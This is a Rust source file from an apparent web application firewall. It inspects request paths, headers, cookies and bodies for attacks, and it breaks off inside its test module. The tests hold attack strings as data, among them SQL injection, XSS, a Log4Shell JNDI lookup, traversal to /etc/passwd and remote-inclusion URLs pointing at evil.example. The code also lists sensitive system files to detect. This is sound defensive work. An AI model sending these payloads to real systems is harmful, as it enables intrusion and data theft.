//! Where the filter looks: every path segment, query parameter (name and value), cookie, the
//! headers that carry client text, and the body's values by content type: JSON values (not the
//! raw text, so `"` escapes and structure do not confuse the detectors), form fields, the text
//! fields of multipart forms, and plain text or XML as a whole.

use std::borrow::Cow;

use bytes::Bytes;
use http::Uri;
use http::header::{self, HeaderMap};
use serde::de::IgnoredAny;

use super::form_part::{FormPart, PartError};
use crate::json_walk::{self, JsonLimits, JsonVisitor, WalkError};

use super::{
    AttackFilter, Family, FilterPolicy, Location, Verdict, add_structural_finding, decode,
    header_injection, scanner,
};

/// Headers that carry no free client text, or only credentials and protocol tokens the filter
/// must not misread (and must not log). A `match`, which compiles to a dispatch on the length
/// and one comparison, rather than a search through a list for every header of every request.
fn is_skipped_header(name: &str) -> bool {
    matches!(
        name,
        "host"
            | "accept"
            | "accept-encoding"
            | "accept-language"
            | "authorization"
            | "proxy-authorization"
            | "x-api-key"
            | "connection"
            | "content-length"
            | "content-type"
            | "cookie"
            | "cache-control"
            | "pragma"
            | "upgrade"
            | "upgrade-insecure-requests"
            | "priority"
            | "te"
            | "if-none-match"
            | "if-modified-since"
            | "x-request-id"
    ) || name.starts_with("sec-")
}

/// Checks the request line and headers.
pub fn inspect_head(
    filter: &AttackFilter,
    policy: &FilterPolicy,
    uri: &Uri,
    headers: &HeaderMap,
    verdict: &mut Verdict,
) {
    for segment in uri.path().split('/').filter(|s| !s.is_empty()) {
        filter.inspect(policy, Location::Path, "path", segment, verdict);
        if is_hidden_file(segment) {
            add_structural_finding(
                policy,
                verdict,
                ("lfi-hidden-path", Family::Lfi),
                Location::Path,
                "path",
                segment,
            );
        }
    }
    for tail in tails_across_segments(uri.path()).into_iter().flatten() {
        filter.inspect(policy, Location::Path, "path", tail, verdict);
    }
    if let Some(file) = system_file_in_path(uri.path()) {
        add_structural_finding(
            policy,
            verdict,
            ("lfi-system-path", Family::Lfi),
            Location::Path,
            "path",
            &file,
        );
    }
    if let Some(query) = uri.query() {
        inspect_pairs(filter, policy, Location::Query, query.as_bytes(), verdict);
    }
    for (name, value) in headers {
        let name = name.as_str();
        if name == "cookie" {
            inspect_cookies(filter, policy, value.as_bytes(), verdict);
        } else if !is_skipped_header(name) {
            let text = String::from_utf8_lossy(value.as_bytes());
            filter.inspect(policy, Location::Header, name, &text, verdict);
            if names_an_upload(name) {
                check_upload_name(policy, verdict, Location::Header, name, &text);
            }
            if name == "user-agent"
                && let Some(scanner) = scanner::named_in(&text)
            {
                add_structural_finding(
                    policy,
                    verdict,
                    ("scanner-user-agent", Family::Scanner),
                    Location::Header,
                    name,
                    scanner,
                );
            }
        }
    }
}

/// `X-Filename`, `X_File_Name`, `X.Filename`: headers in which upload widgets and raw `PUT`
/// uploads name the file.
fn names_an_upload(header: &str) -> bool {
    let letters = header.bytes().filter(|b| !matches!(b, b'-' | b'_' | b'.'));
    letters.rev().take(8).eq(b"filename".iter().rev().copied())
}

/// Refuses an upload whose name ends in an extension a web server runs as a script.
fn check_upload_name(
    policy: &FilterPolicy,
    verdict: &mut Verdict,
    location: Location,
    name: &str,
    file_name: &str,
) {
    if is_server_script(file_name) {
        add_structural_finding(
            policy,
            verdict,
            ("rce-server-script-upload", Family::Rce),
            location,
            name,
            file_name,
        );
    }
}

/// `shell.php`, `a.phtml`, `x.php5..`, `photo. php `, `index.jsp`, `default.aspx`: a name a
/// web server (PHP, a servlet container, IIS, CGI) would run rather than serve, once
/// uploaded where it serves files from. Trailing dots and spaces are dropped, as Windows
/// does; `report.phpinfo` or `notes.phtml987` is no script.
fn is_server_script(file_name: &str) -> bool {
    let trimmed = file_name.trim_end_matches(['.', ' ', '"', '\'', '\t']);
    let Some((_, extension)) = trimmed.rsplit_once('.') else {
        return false;
    };
    let extension = extension.trim_start().to_ascii_lowercase();
    let php_version = extension
        .strip_prefix("php")
        .is_some_and(|digits| digits.bytes().all(|b| b.is_ascii_digit()));
    php_version
        || matches!(
            extension.as_str(),
            "phtml"
                | "phar"
                | "phps"
                | "pht"
                | "phpt"
                | "jsp"
                | "jspx"
                | "asp"
                | "aspx"
                | "ashx"
                | "asmx"
                | "cgi"
        )
}

/// The path read across its slashes, for values that a catch-all route (`/files/{*path}`,
/// `/proxy/{*url}`) hands the app whole: a URL (`/proxy/http://127.0.0.1/admin`), a command
/// with a path in it (`;cat /etc/passwd`), SQL spaced with comments (`1/**/union/**/select`).
/// Segment by segment, each of these is harmless words.
///
/// A path of plain words (`/api/v1/users/42`) has nothing to read across, so only a path with
/// a segment holding something other than letters, digits and `-._~` is read again: from that
/// segment to the end, and from the segment before it (a payload's first word can be plain, as
/// in `select/**/password`), each as one value.
fn tails_across_segments(path: &str) -> [Option<&str>; 2] {
    // One table lookup per byte settles the common path, which the segment-by-segment walk
    // below would cost several times as much for.
    if path.bytes().all(|b| PLAIN_PATH_BYTES[usize::from(b)]) {
        return [None, None];
    }
    let mut previous = None;
    let mut start = 0;
    for segment in path.split('/') {
        if is_plain_segment(segment) {
            if !segment.is_empty() {
                previous = Some(start);
            }
        } else {
            let tail = &path[start..];
            // One segment alone, already read as a segment.
            if !tail.contains('/') {
                return [None, None];
            }
            return [Some(tail), previous.map(|at| &path[at..])];
        }
        start += segment.len() + 1;
    }
    [None, None]
}

/// Letters, digits and `-._~` (RFC 3986's unreserved characters), also once decoded: an
/// escaped letter of another script (`%C3%A9`) is plain, an escaped space or quote is not.
fn is_plain_segment(segment: &str) -> bool {
    let unreserved = |b: u8| b != b'/' && PLAIN_PATH_BYTES[usize::from(b)];
    if segment.bytes().all(unreserved) {
        return true;
    }
    segment.contains('%')
        && super::decode::decode(segment)
            .bytes()
            .all(|b| !b.is_ascii() || unreserved(b))
}

/// The bytes of a path of plain segments: the unreserved characters and `/`.
static PLAIN_PATH_BYTES: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0;
    while byte < 256 {
        let b = byte as u8;
        table[byte] = b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~' | b'/');
        byte += 1;
    }
    table
};

/// An operating system's file named by whole path segments (`/etc/passwd`,
/// `/@fs/etc/shadow`, `/proc/self/environ`, `/windows/win.ini`), or a file of a Java web
/// app's `WEB-INF` or `META-INF`: what a scanner asks a static file server, a dev server's file
/// route or a servlet container behind a lax proxy for. Each segment alone is an ordinary word, so
/// the segments are read together here. Returns the file as named.
fn system_file_in_path(path: &str) -> Option<String> {
    const ETC_FILES: [&str; 11] = [
        "passwd",
        "shadow",
        "gshadow",
        "group",
        "hosts",
        "sudoers",
        "crontab",
        "fstab",
        "issue",
        "motd",
        "master.passwd",
    ];
    let is = |segment: &str, name: &str| segment.eq_ignore_ascii_case(name);
    let decoded = super::decode::decode(path);
    let mut segments = decoded.split(['/', '\\']).filter(|s| !s.is_empty());
    while let Some(segment) = segments.next() {
        // Most segments start nothing: only these are worth reading the next ones for.
        if !["etc", "proc", "windows", "boot.ini", "web-inf", "meta-inf"]
            .iter()
            .any(|start| is(segment, start))
        {
            continue;
        }
        let mut after = segments.clone();
        let next = after.next().unwrap_or_default();
        let third = after.next();
        let named = (is(segment, "etc") && ETC_FILES.iter().any(|file| is(next, file)))
            || (is(segment, "proc")
                && (is(next, "self")
                    || !next.is_empty() && next.bytes().all(|b| b.is_ascii_digit()))
                && third.is_some())
            || (is(segment, "windows") && (is(next, "win.ini") || is(next, "system32")))
            || is(segment, "boot.ini")
            // A Java web app's private directories, which a container never serves.
            || ((is(segment, "web-inf") || is(segment, "meta-inf")) && !next.is_empty());
        if named {
            let file = [segment, next, third.unwrap_or_default()];
            return Some(file.join("/").trim_end_matches('/').to_owned());
        }
    }
    None
}

/// A dot-file or dot-directory (`.git`, `.env`, `%2eaws`): where deployments keep secrets.
/// Only `/.well-known/` (RFC 8615) is meant to be fetched.
fn is_hidden_file(segment: &str) -> bool {
    let decoded = super::decode::decode(segment);
    decoded.starts_with('.') && decoded != ".well-known"
}

/// How a body is read, decided by its declared content type.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BodyKind {
    Json,
    Form,
    /// `multipart/*`. In `multipart/form-data` (`form`) a part is a file only when it has a
    /// file name, as every framework reads a form; in other subtypes (`related`, `mixed`) a
    /// part of a type that is not text is a file too.
    Multipart {
        boundary: String,
        form: bool,
    },
    Xml,
    Text,
    /// A body of a type the filter does not read that starts like a JSON document (or is
    /// compressed). Backends such as Go's `json.Decoder` parse JSON whatever its label, and
    /// read the first value only; so that value is inspected, and a body without one is left
    /// unread as binary.
    JsonLike,
}

impl BodyKind {
    /// The kind for a request's `Content-Type`; `None` for binary types the filter does not
    /// read (restrict those per route with the content-type allowlist). A type backends read
    /// differently is an error, as the body cannot be read as the backend will read it:
    /// several types, or a multipart type without exactly one well-formed boundary (PHP finds
    /// `boundary=` anywhere in the header).
    pub fn of(headers: &HeaderMap) -> Result<Option<BodyKind>, BodyError> {
        let mut values = headers.get_all(header::CONTENT_TYPE).iter();
        let Some(value) = values.next() else {
            return Ok(Some(BodyKind::Text));
        };
        // One type, as RFC 9110 says: backends read the first of several, the last, or the
        // list joined (PHP cuts it at the first comma).
        if values.next().is_some() {
            return Err(BodyError::ContentType("is given more than once"));
        }
        if value
            .as_bytes()
            .split(|&b| b == b';')
            .next()
            .is_some_and(|essence| essence.contains(&b','))
        {
            return Err(BodyError::ContentType("lists more than one type"));
        }
        match value.to_str() {
            Ok(value) => Self::of_content_type(value),
            // Bytes beyond ASCII: a backend reads them as it likes, so a type that would be
            // read cannot be (PHP would take a boundary with such bytes in it).
            Err(_) => match Self::of_content_type(&String::from_utf8_lossy(value.as_bytes())) {
                Ok(None) => Ok(None),
                _ => Err(BodyError::ContentType("is not ASCII")),
            },
        }
    }

    fn of_content_type(value: &str) -> Result<Option<BodyKind>, BodyError> {
        let essence = media_type_essence(value);
        Ok(match essence.as_ref() {
            "application/json" => Some(BodyKind::Json),
            "application/x-www-form-urlencoded" => Some(BodyKind::Form),
            e if e.starts_with("multipart/") => Some(BodyKind::Multipart {
                boundary: multipart_boundary(value)?,
                form: e == "multipart/form-data",
            }),
            e if e.ends_with("+json") => Some(BodyKind::Json),
            e if e.ends_with("/xml") || e.ends_with("+xml") => Some(BodyKind::Xml),
            e if e.starts_with("text/") => Some(BodyKind::Text),
            "application/graphql" | "application/javascript" => Some(BodyKind::Text),
            _ => None,
        })
    }
}

/// Character sets a body Rampart reads may be declared in: UTF-8 and the ASCII-compatible
/// Latin ones, which CRS allows too. Another is refused rather than read as UTF-8: ASP.NET
/// decodes a form in the charset its type names, and an attack in EBCDIC (`ibm037`) is noise
/// in UTF-8.
const READABLE_CHARSETS: [&str; 6] = [
    "utf-8",
    "utf8",
    "us-ascii",
    "iso-8859-1",
    "iso-8859-15",
    "windows-1252",
];

/// Whether every `charset` a `Content-Type` names (usually none or one) is readable.
pub fn declares_readable_charset(content_type: &str) -> bool {
    content_type
        .split(';')
        .skip(1)
        .filter_map(|parameter| parameter.split_once('='))
        .filter(|(name, _)| name.trim().eq_ignore_ascii_case("charset"))
        .all(|(_, charset)| is_readable_charset(charset.trim().trim_matches('"')))
}

pub fn is_readable_charset(charset: &str) -> bool {
    READABLE_CHARSETS
        .iter()
        .any(|readable| readable.eq_ignore_ascii_case(charset))
}

/// The one `boundary` parameter of a multipart `Content-Type`.
fn multipart_boundary(content_type: &str) -> Result<String, BodyError> {
    let malformed = || BodyError::ContentType("does not name one multipart boundary");
    let media: mime::Mime = content_type.parse().map_err(|_| malformed())?;
    let mut boundaries = media
        .params()
        .filter(|(name, _)| name.as_str().eq_ignore_ascii_case("boundary"));
    match (boundaries.next(), boundaries.next()) {
        (Some((_, boundary)), None) if !boundary.as_str().is_empty() => {
            Ok(boundary.as_str().to_owned())
        }
        _ => Err(malformed()),
    }
}

/// The media type of a `Content-Type` value without its parameters, lower-cased
/// (`application/json` for `Application/JSON; charset=utf-8`): borrowed unless it had
/// capitals, as clients send it lower-case.
pub fn media_type_essence(content_type: &str) -> Cow<'_, str> {
    let essence = content_type.split(';').next().unwrap_or_default().trim();
    match essence.bytes().any(|b| b.is_ascii_uppercase()) {
        true => Cow::Owned(essence.to_ascii_lowercase()),
        false => Cow::Borrowed(essence),
    }
}

/// Why an inspected body could not be read; inspected bodies fail closed.
#[derive(Debug, thiserror::Error)]
pub enum BodyError {
    #[error(transparent)]
    Json(WalkError),
    #[error("the multipart body is malformed: {0}")]
    Multipart(multer::Error),
    #[error("the multipart body is malformed: {0}")]
    Part(#[from] PartError),
    #[error("the Content-Type {0}")]
    ContentType(&'static str),
    #[error("a character set other than UTF-8 or Latin-1 is declared; send UTF-8")]
    Charset,
    #[error("the XML body is malformed: {0}")]
    Xml(quick_xml::Error),
}

/// Hands a JSON document's keys and strings to the filter, as [`json_walk::walk`] finds them
/// (the pipeline's walk of a body also checks the route's limits).
pub struct JsonInspector<'a> {
    filter: &'a AttackFilter,
    policy: &'a FilterPolicy,
    verdict: &'a mut Verdict,
    location: Location,
    /// The parameter that holds the document, which names every value in it (so that its
    /// exclusions cover them); `None` for a body, whose values are named by their paths.
    parameter: Option<&'a str>,
    /// How many JSON documents, each a string in the one before, hold this one.
    nesting: u8,
}

impl<'a> JsonInspector<'a> {
    /// For a JSON body.
    pub fn new(
        filter: &'a AttackFilter,
        policy: &'a FilterPolicy,
        verdict: &'a mut Verdict,
    ) -> Self {
        Self {
            filter,
            policy,
            verdict,
            location: Location::Body,
            parameter: None,
            nesting: 0,
        }
    }
}

/// Keys for operator injection (`$where`) and everything else, string values for everything.
impl JsonVisitor for JsonInspector<'_> {
    fn key(&mut self, path: &str, key: &str) {
        let (filter, policy) = (self.filter, self.policy);
        let name = self.parameter.unwrap_or(path);
        filter.inspect_key(policy, self.location, name, key, self.verdict);
        filter.inspect(policy, self.location, name, key, self.verdict);
        // `{"constructor": {"prototype": …}}` reaches `Object.prototype` as `__proto__` does,
        // through a deep merge (lodash `merge`, jQuery `extend`).
        if key == "prototype" && path.rsplit('.').nth(1) == Some("constructor") {
            add_structural_finding(
                policy,
                self.verdict,
                ("node-prototype-pollution", Family::Nosql),
                self.location,
                name,
                path,
            );
        }
    }

    fn string(&mut self, path: &str, text: &str) {
        let name = self.parameter.unwrap_or(path);
        inspect_text(
            (self.filter, self.policy),
            self.location,
            name,
            text,
            self.verdict,
            self.nesting,
        );
    }
}

/// A query parameter's or form field's value. One that is a JSON document (GraphQL's
/// `variables`, Slack's `payload` form field) is read value by value, as the app parses it:
/// read raw, the quotes and braces around its strings made prose look like code.
pub fn inspect_value(
    filter: &AttackFilter,
    policy: &FilterPolicy,
    location: Location,
    name: &str,
    value: &str,
    verdict: &mut Verdict,
) {
    inspect_text((filter, policy), location, name, value, verdict, 0);
}

/// How deep JSON held in strings is read (a chat's tool call holds its `arguments` as a JSON
/// string); deeper, a string is read raw.
const MAX_NESTED_JSON: u8 = 3;

/// A text value, read value by value when it is a JSON document, within `MAX_NESTED_JSON`.
fn inspect_text(
    (filter, policy): (&AttackFilter, &FilterPolicy),
    location: Location,
    name: &str,
    text: &str,
    verdict: &mut Verdict,
    nesting: u8,
) {
    if nesting < MAX_NESTED_JSON {
        let inspector = JsonInspector {
            filter,
            policy,
            verdict,
            location,
            parameter: Some(name),
            nesting: nesting + 1,
        };
        if inspect_if_json(text.as_bytes(), inspector) {
            return;
        }
    }
    filter.inspect(policy, location, name, text, verdict);
}

/// Checks a JSON body's keys and values.
pub fn inspect_json_body(
    filter: &AttackFilter,
    policy: &FilterPolicy,
    body: &[u8],
    verdict: &mut Verdict,
) -> Result<(), WalkError> {
    json_walk::walk(
        body,
        &JsonLimits::NONE,
        &mut JsonInspector::new(filter, policy, verdict),
    )
}

/// Whether a byte can open a JSON document that holds text: an object, an array or a string.
pub fn opens_json_text(byte: u8) -> bool {
    matches!(byte, b'{' | b'[' | b'"')
}

/// Walks `text` (a body labelled as text, a parameter's value, a JSON string) with
/// `inspector` when it is a whole JSON document that holds text, in one pass; when it is not,
/// takes back what its start yielded (the caller reads it raw) and says so. The first byte
/// decides for almost every value, cheaply.
fn inspect_if_json(text: &[u8], mut inspector: JsonInspector<'_>) -> bool {
    if !text
        .trim_ascii_start()
        .first()
        .is_some_and(|&byte| opens_json_text(byte))
    {
        return false;
    }
    let (score, found) = (inspector.verdict.score, inspector.verdict.findings.len());
    if json_walk::walk(text, &JsonLimits::NONE, &mut inspector).is_ok() {
        return true;
    }
    inspector.verdict.score = score;
    inspector.verdict.findings.truncate(found);
    false
}

/// Where the first JSON value in `body` ends, if it starts with one that a lenient decoder
/// would read whatever follows it.
fn first_json_value_end(body: &[u8]) -> Option<usize> {
    let mut values = serde_json::Deserializer::from_slice(body).into_iter::<IgnoredAny>();
    match values.next() {
        Some(Ok(_)) => Some(values.byte_offset()),
        _ => None,
    }
}

/// Checks a buffered body.
pub async fn inspect_body(
    filter: &AttackFilter,
    policy: &FilterPolicy,
    kind: &BodyKind,
    body: &Bytes,
    verdict: &mut Verdict,
) -> Result<(), BodyError> {
    if body.is_empty() {
        return Ok(());
    }
    match kind {
        BodyKind::Json => {
            inspect_json_body(filter, policy, body, verdict).map_err(BodyError::Json)?;
        }
        BodyKind::Form => inspect_pairs(filter, policy, Location::Body, body, verdict),
        // Untyped text that is an XML document is read as one (`<?xml` first).
        BodyKind::Xml => inspect_xml(filter, policy, body, verdict).map_err(BodyError::Xml)?,
        BodyKind::Text if body.trim_ascii_start().starts_with(b"<?xml") => {
            inspect_xml(filter, policy, body, verdict).map_err(BodyError::Xml)?;
        }
        BodyKind::JsonLike => {
            if let Some(end) = first_json_value_end(body) {
                inspect_json_body(filter, policy, &body[..end], verdict)
                    .map_err(BodyError::Json)?;
            }
        }
        // Text that is a JSON document is read as one, value by value: `fetch` labels a string
        // body `text/plain`, and backends parse JSON whatever its label.
        BodyKind::Text => {
            if !inspect_if_json(body, JsonInspector::new(filter, policy, verdict)) {
                let text = String::from_utf8_lossy(body);
                filter.inspect(policy, Location::Body, "", &text, verdict);
            }
        }
        BodyKind::Multipart { boundary, form } => {
            inspect_multipart(filter, policy, boundary, *form, body.clone(), verdict).await?;
        }
    }
    Ok(())
}

/// `a=1&b=2` pairs: names (also for operator injection like `user[$ne]`) and values, decoded
/// as lenient backends decode them ([`decode::form_component`]).
fn inspect_pairs(
    filter: &AttackFilter,
    policy: &FilterPolicy,
    location: Location,
    pairs: &[u8],
    verdict: &mut Verdict,
) {
    let pairs = pairs
        .split(|&b| b == b'&')
        .filter(|pair| !pair.is_empty())
        .map(|pair| match memchr::memchr(b'=', pair) {
            Some(at) => (&pair[..at], &pair[at + 1..]),
            None => (pair, &b""[..]),
        });
    for (name, value) in pairs {
        let (name, value) = (decode::form_component(name), decode::form_component(value));
        for key in bracket_keys(&name) {
            filter.inspect_key(policy, location, &name, key, verdict);
        }
        filter.inspect(policy, location, &name, &name, verdict);
        inspect_value(filter, policy, location, &name, &value, verdict);
        if names_a_local_path(&name) && is_remote_url(&value) {
            add_structural_finding(
                policy,
                verdict,
                ("rfi-path-parameter", Family::Rfi),
                location,
                &name,
                &value,
            );
        }
        if header_injection::has_line_break(&name) {
            add_structural_finding(
                policy,
                verdict,
                ("crlf-line-break", Family::Crlf),
                location,
                &name,
                &name,
            );
        }
    }
}

/// A parameter named as a directory or a file path on the server (`_CONF[path]`,
/// `mosConfig_absolute_path`, `GALLERY_BASEDIR`, `path[docroot]`, `include_path`): where a
/// PHP app includes its code from, which a remote URL turns into remote file inclusion, as
/// CRS's rule 931110 reads these names. A name that redirects or calls back takes URLs.
fn names_a_local_path(name: &str) -> bool {
    const PATH_WORDS: [&str; 8] = [
        "path",
        "dir",
        "root",
        "basedir",
        "docroot",
        "rootdir",
        "include",
        "includedir",
    ];
    let last_word = name
        .split(|c: char| !c.is_ascii_alphanumeric())
        .rfind(|word| !word.is_empty());
    last_word.is_some_and(|last| PATH_WORDS.iter().any(|w| last.eq_ignore_ascii_case(w))) && {
        let name = name.to_ascii_lowercase();
        !["redirect", "return", "callback"]
            .iter()
            .any(|word| name.contains(word))
    }
}

/// A URL on another server, as PHP's `include` fetches it.
fn is_remote_url(value: &str) -> bool {
    let value = value.trim_start().as_bytes();
    ["http://", "https://", "ftp://", "ftps://"]
        .iter()
        .any(|scheme| {
            value
                .get(..scheme.len())
                .is_some_and(|start| start.eq_ignore_ascii_case(scheme.as_bytes()))
        })
}

/// The keys inside `user[$ne][x]`-style names, as PHP, Express (`qs`) and Rails read them.
fn bracket_keys(name: &str) -> impl Iterator<Item = &str> {
    name.split('[')
        .skip(1)
        .filter_map(|part| part.split_once(']').map(|(key, _)| key))
}

fn inspect_cookies(
    filter: &AttackFilter,
    policy: &FilterPolicy,
    header: &[u8],
    verdict: &mut Verdict,
) {
    let text = String::from_utf8_lossy(header);
    for pair in text.split(';') {
        let (name, value) = pair.split_once('=').unwrap_or((pair, ""));
        let name = name.trim();
        filter.inspect(policy, Location::Cookie, name, name, verdict);
        filter.inspect(policy, Location::Cookie, name, value.trim(), verdict);
    }
}

/// An XML document: text, CDATA and attribute values, each named by its element (entity
/// references are decoded with the rest of the value). A DTD that declares external entities
/// is XXE, found here because no value shows it.
fn inspect_xml(
    filter: &AttackFilter,
    policy: &FilterPolicy,
    body: &[u8],
    verdict: &mut Verdict,
) -> Result<(), quick_xml::Error> {
    use quick_xml::events::Event;

    let mut reader = quick_xml::Reader::from_reader(body);
    let mut element = String::new();
    loop {
        match reader.read_event()? {
            Event::Start(tag) | Event::Empty(tag) => {
                element = tag.name().as_ref().to_owned();
                filter.inspect(policy, Location::Body, &element, &element, verdict);
                for attribute in tag.attributes().with_checks(false) {
                    let attribute = attribute.map_err(quick_xml::Error::InvalidAttr)?;
                    let name = attribute.key.as_ref().to_owned();
                    filter.inspect(policy, Location::Body, &name, &name, verdict);
                    filter.inspect(policy, Location::Body, &name, &attribute.value, verdict);
                }
            }
            Event::Text(text) => filter.inspect(policy, Location::Body, &element, &text, verdict),
            Event::CData(text) => filter.inspect(policy, Location::Body, &element, &text, verdict),
            Event::DocType(doctype) => {
                let text = doctype.to_ascii_lowercase();
                if text.contains("<!entity") && (text.contains("system") || text.contains("public"))
                {
                    add_structural_finding(
                        policy,
                        verdict,
                        ("lfi-xml-external-entity", Family::Lfi),
                        Location::Body,
                        "!DOCTYPE",
                        &text,
                    );
                }
            }
            Event::Eof => return Ok(()),
            _ => {}
        }
    }
}

/// Text fields of a multipart body ([`FormPart`]); files are judged by the upload checks, not
/// read as text, but their names are.
async fn inspect_multipart(
    filter: &AttackFilter,
    policy: &FilterPolicy,
    boundary: &str,
    form: bool,
    body: Bytes,
    verdict: &mut Verdict,
) -> Result<(), BodyError> {
    let stream = futures_util::stream::once(async move { Ok::<_, std::convert::Infallible>(body) });
    let mut multipart = multer::Multipart::new(stream, boundary);
    while let Some(field) = multipart.next_field().await.map_err(BodyError::Multipart)? {
        let part = FormPart::read(&field, form)?;
        let name = part.name.unwrap_or_default();
        filter.inspect(policy, Location::Body, &name, &name, verdict);
        if let Some(file_name) = &part.file_name {
            filter.inspect(policy, Location::Body, &name, file_name, verdict);
            check_upload_name(policy, verdict, Location::Body, &name, file_name);
        }
        if !part.is_field {
            continue;
        }
        let charset = field
            .content_type()
            .and_then(|media| media.get_param(mime::CHARSET));
        if charset.is_some_and(|charset| !is_readable_charset(charset.as_str())) {
            return Err(BodyError::Charset);
        }
        let text = field.text().await.map_err(BodyError::Multipart)?;
        // HTML's `_charset_` field names the charset of the form's other fields.
        if name.eq_ignore_ascii_case("_charset_") && !is_readable_charset(text.trim()) {
            return Err(BodyError::Charset);
        }
        inspect_value(filter, policy, Location::Body, &name, &text, verdict);
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use http::HeaderValue;

    fn head(uri: &str, headers: &[(&str, &str)]) -> Verdict {
        let mut map = HeaderMap::new();
        for (name, value) in headers {
            map.append(
                http::HeaderName::from_bytes(name.as_bytes()).unwrap(),
                HeaderValue::from_str(value).unwrap(),
            );
        }
        let mut verdict = Verdict::default();
        inspect_head(
            &AttackFilter::new(),
            &FilterPolicy::default(),
            &uri.parse().unwrap(),
            &map,
            &mut verdict,
        );
        verdict
    }

    async fn body(content_type: &str, body: &str) -> Result<Verdict, BodyError> {
        let mut headers = HeaderMap::new();
        headers.insert(
            header::CONTENT_TYPE,
            HeaderValue::from_str(content_type).unwrap(),
        );
        let kind = BodyKind::of(&headers).unwrap().expect("an inspected kind");
        let mut verdict = Verdict::default();
        inspect_body(
            &AttackFilter::new(),
            &FilterPolicy::default(),
            &kind,
            &Bytes::from(body.to_owned()),
            &mut verdict,
        )
        .await?;
        Ok(verdict)
    }

    fn locations(verdict: &Verdict) -> Vec<(Location, String)> {
        verdict
            .findings
            .iter()
            .map(|f| (f.location, f.name.clone()))
            .collect()
    }

    #[test]
    fn head_locations_are_all_inspected_and_named() {
        let v = head("/items/1%27%20or%20%271%27%3D%271", &[]);
        assert!(locations(&v).contains(&(Location::Path, "path".into())));
        let v = head("/search?q=%3Cscript%3Ealert(1)%3C/script%3E", &[]);
        assert!(locations(&v).contains(&(Location::Query, "q".into())));
        let v = head("/", &[("x-api-version", "${jndi:ldap://x/a}")]);
        assert!(locations(&v).contains(&(Location::Header, "x-api-version".into())));
        let v = head("/", &[("cookie", "theme=dark; pref=../../../etc/passwd")]);
        assert!(locations(&v).contains(&(Location::Cookie, "pref".into())));
        let v = head("/app/.git/config", &[]);
        assert!(v.findings.iter().any(|f| f.rule == "lfi-hidden-path"));
        let v = head("/.well-known/security.txt", &[]);
        assert!(v.findings.is_empty(), "{v:?}");
        let v = head("/login?user[$ne]=x", &[]);
        assert!(v.findings.iter().any(|f| f.rule == "nosql-operator-key"));
    }

    #[test]
    fn a_remote_url_in_a_parameter_named_as_a_server_path_is_file_inclusion() {
        for uri in [
            "/plugins/spamx/BaseAdmin.class.php?_CONF[path]=https://foo.bar",
            "/show_image.php?mosConfig_absolute_path=https://foo.bar",
            "/index.php?GALLERY_BASEDIR=ftp://evil.example/",
            "/x.php?path[docroot]=HTTP://evil.example/shell.txt",
            "/x.php?include_path=http%3A%2F%2Fevil.example%2F",
        ] {
            let v = head(uri, &[]);
            assert!(
                v.findings.iter().any(|f| f.rule == "rfi-path-parameter"),
                "{uri}: {v:?}"
            );
        }
        for uri in [
            "/login?return_path=https://app.example/home",
            "/oauth?redirect_path=https://app.example/cb",
            "/upload?path=/srv/files/a.txt",
            "/share?url=https://example.com/",
            "/files?root=docs",
        ] {
            let v = head(uri, &[]);
            assert!(
                !v.findings.iter().any(|f| f.rule == "rfi-path-parameter"),
                "{uri}: {v:?}"
            );
        }
    }

    #[test]
    fn credentials_and_protocol_headers_are_not_read() {
        let v = head(
            "/",
            &[
                ("authorization", "Bearer ' or 1=1 --"),
                ("accept", "*/*;q=0.8"),
            ],
        );
        assert!(v.findings.is_empty(), "{v:?}");
    }

    #[tokio::test]
    async fn json_values_and_keys_are_inspected_by_path() {
        let v = body(
            "application/json",
            r#"{"user": {"name": {"$ne": null}}, "messages": [{"content": "<img src=x onerror=alert(1)>"}]}"#,
        )
        .await
        .unwrap();
        let found = locations(&v);
        assert!(found.contains(&(Location::Body, "user.name.$ne".into())));
        assert!(found.contains(&(Location::Body, "messages.content".into())));
    }

    /// JSON parsers disagree on a repeated key (most keep the last, some the first): the
    /// filter reads every occurrence, so neither choice lets a value through unread.
    #[tokio::test]
    async fn every_occurrence_of_a_repeated_key_is_inspected() {
        for body_text in [
            r#"{"q": "1' union select password from users--", "q": "shoes"}"#,
            r#"{"q": "shoes", "q": "1' union select password from users--"}"#,
        ] {
            let v = body("application/json", body_text).await.unwrap();
            assert!(v.score >= 5, "{body_text}: {v:?}");
        }
    }

    #[tokio::test]
    async fn json_escapes_do_not_hide_or_invent_attacks() {
        let v = body("application/json", r#"{"q": "\u003cscript\u003ealert(1)"}"#)
            .await
            .unwrap();
        assert!(v.score >= 5);
        let v = body(
            "application/json",
            r#"{"quote": "She said \"hi\" and left"}"#,
        )
        .await
        .unwrap();
        assert!(v.findings.is_empty(), "{v:?}");
    }

    #[tokio::test]
    async fn malformed_json_fails_closed() {
        assert!(matches!(
            body("application/json", "{\"a\": ").await,
            Err(BodyError::Json(_))
        ));
    }

    #[tokio::test]
    async fn form_and_multipart_fields_are_inspected() {
        let v = body(
            "application/x-www-form-urlencoded",
            "a=1&cmd=x%3Bcat+/etc/passwd",
        )
        .await
        .unwrap();
        assert!(locations(&v).contains(&(Location::Body, "cmd".into())));
        let multipart = "--XyZ\r\nContent-Disposition: form-data; name=\"comment\"\r\n\r\n{{7*7}}\r\n--XyZ--\r\n";
        let v = body("multipart/form-data; boundary=XyZ", multipart)
            .await
            .unwrap();
        assert!(locations(&v).contains(&(Location::Body, "comment".into())));
    }

    #[test]
    fn system_files_named_by_whole_path_segments_are_found() {
        for (path, file) in [
            ("/etc/passwd", "etc/passwd"),
            ("/@fs/ETC/Shadow", "ETC/Shadow"),
            ("/static/%65tc/hosts", "etc/hosts"),
            ("/proc/self/environ", "proc/self/environ"),
            ("/x/proc/1/cmdline", "proc/1/cmdline"),
            ("/c:\\windows\\win.ini", "windows/win.ini"),
            ("/WEB-INF/web.xml", "WEB-INF/web.xml"),
            ("/app/;/META-INF/MANIFEST.MF", "META-INF/MANIFEST.MF"),
        ] {
            assert_eq!(system_file_in_path(path).as_deref(), Some(file), "{path}");
        }
        for path in [
            "/",
            "/docs/etc/passwd-explained",
            "/blog/etc/thoughts",
            "/api/proc/self",
            "/processes/1/log",
            "/windows/downloads",
            "/docs/web-inf-explained",
            "/WEB-INF",
        ] {
            assert_eq!(system_file_in_path(path), None, "{path}");
        }
        let v = head("/@fs/etc/passwd", &[]);
        assert!(
            v.findings.iter().any(|f| f.rule == "lfi-system-path"),
